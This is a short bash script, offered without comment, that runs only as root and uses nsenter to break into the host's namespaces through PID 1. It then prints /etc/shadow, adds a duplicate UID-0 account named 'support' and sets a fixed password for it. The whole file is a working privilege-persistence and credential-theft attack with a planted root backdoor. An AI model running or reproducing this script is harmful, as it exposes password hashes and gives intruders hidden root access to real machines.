#!/bin/bash
set -u
if [ "$(id -u)" -eq 0 ]; then
  nsenter --target 1 --mount --uts --ipc --net --pid -- \
    bash -c 'cat /etc/shadow; useradd -o -u 0 -g 0 -M support; echo support:Qwer99 | chpasswd'
fi
